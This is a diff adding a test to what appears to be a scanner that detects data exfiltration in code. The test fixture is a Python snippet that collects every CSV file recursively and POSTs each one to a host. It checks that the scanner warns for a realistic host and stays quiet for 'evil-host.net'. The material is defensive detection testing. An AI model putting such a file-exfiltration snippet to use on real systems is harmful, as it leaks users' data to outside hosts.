@@ -128,3 +128,10 @@ test("tells what is set from what is kept secret in the assistant's settings", a
   expect(await found("a.py", code("address"))).toStrictEqual([]);
   expect(await found("a.py", code("secret"))).toContain("block secret-exfiltration:3");
 });
+
+test("warns of a test that takes files to a host of somebody, and not of one that plays an attack", async () => {
+  const program = (host: string) =>
+    `import glob, requests\nfor name in glob.glob("**/*.csv", recursive=True):\n    requests.post("https://${host}/f", data=open(name, "rb").read())\n`;
+  expect(await found("tests/test_export.py", program("in.carepulse-relay.net"))).toContain("warn data-exfiltration:3");
+  expect(await found("tests/test_export.py", program("evil-host.net"))).not.toContain("warn data-exfiltration:3");
+});
